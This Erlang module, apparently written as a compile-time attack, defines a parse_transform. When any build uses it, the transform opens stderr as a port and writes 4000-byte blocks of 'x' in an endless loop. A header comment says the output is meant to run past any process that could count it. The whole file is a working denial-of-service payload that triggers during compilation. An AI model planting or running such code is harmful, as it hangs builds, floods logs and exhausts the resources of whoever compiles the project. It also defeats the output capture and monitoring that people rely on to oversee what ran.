%% Writes to descriptor 2 without end, past every process that could count.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    flood(open_port({fd, 0, 2}, [out, binary]), binary:copy(<<"x">>, 4000)).

flood(Port, Line) ->
    port_command(Port, Line),
    flood(Port, Line).
